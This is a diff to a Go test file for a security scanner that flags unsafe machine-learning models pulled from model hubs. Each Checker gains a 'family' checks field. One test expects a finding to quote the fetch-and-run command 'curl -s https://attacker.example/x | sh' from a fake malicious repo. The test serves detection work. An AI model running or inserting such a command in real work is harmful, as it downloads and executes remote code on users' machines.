@@ -12,7 +12,7 @@ import (
 	"time"
 
 	"github.com/ward-sec/ward/checks"
-	_ "github.com/ward-sec/ward/checks/all"
+	"github.com/ward-sec/ward/checks/model/family"
 	"github.com/ward-sec/ward/internal/fakehub"
 )
 
@@ -92,7 +92,7 @@ func TestCheckCalls(t *testing.T) {
 		{"torch.hub", Call{Repo: "pytorch/vision", Source: "github"}, "", []string{"info hub-model-not-checked"}, "hubconf.py"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			c := &Checker{Client: NewClient(h.URL, tc.token, nil)}
+			c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, tc.token, nil)}
 			tc.call.Line = 7
 			fs := c.Check(context.Background(), "app.py", []Call{tc.call})
 			if got := rules(fs); strings.Join(got, ",") != strings.Join(tc.want, ",") {
@@ -117,7 +117,7 @@ func TestCheckCalls(t *testing.T) {
 // The payload is named in the finding.
 func TestPayloadNamed(t *testing.T) {
 	h := newHub(t)
-	c := &Checker{Client: NewClient(h.URL, "", nil)}
+	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
 	fs := c.Check(context.Background(), "app.py", []Call{{Line: 3, Repo: "acme/evil"}})
 	if len(fs) == 0 || !strings.Contains(fs[0].Message, "curl -s https://attacker.example/x | sh") {
 		t.Fatalf("payload not named: %+v", fs)
@@ -127,7 +127,7 @@ func TestPayloadNamed(t *testing.T) {
 // An outage or a long rate limit is a note, quickly; a short Retry-After is waited out.
 func TestOutageAndRateLimit(t *testing.T) {
 	h := newHub(t)
-	c := &Checker{Client: NewClient(h.URL, "", nil)}
+	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
 	h.SetDown(true)
 	start := time.Now()
 	fs := c.Check(context.Background(), "app.py", []Call{{Line: 1, Repo: "acme/evil"}})
@@ -156,7 +156,7 @@ func TestPaginationAndCache(t *testing.T) {
 	h := newHub(t)
 	h.SetPageSize(1)
 	cache := &MemoryCache{}
-	c := &Checker{Client: NewClient(h.URL, "", nil), Cache: cache}
+	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil), Cache: cache}
 	first := c.Check(context.Background(), "a.py", []Call{{Line: 1, Repo: "acme/evil"}})
 	if len(first) == 0 || first[0].RuleID != RuleUnsafeModel {
 		t.Fatalf("paginated tree: %+v", first)
@@ -188,7 +188,7 @@ func TestLargeHubCheckpointIsRangeRead(t *testing.T) {
 	w.Write(make([]byte, 48<<20))
 	zw.Close()
 	h.AddCommit("acme/big", "main", map[string][]byte{"pytorch_model.bin": buf.Bytes()})
-	c := &Checker{Client: NewClient(h.URL, "", nil)}
+	c := &Checker{Checks: family.New(nil), Client: NewClient(h.URL, "", nil)}
 	fs := c.Check(context.Background(), "a.py", []Call{{Line: 1, Repo: "acme/big"}})
 	if len(fs) == 0 || fs[0].RuleID != RuleUnsafeModel {
 		t.Fatalf("big checkpoint: %+v", fs)
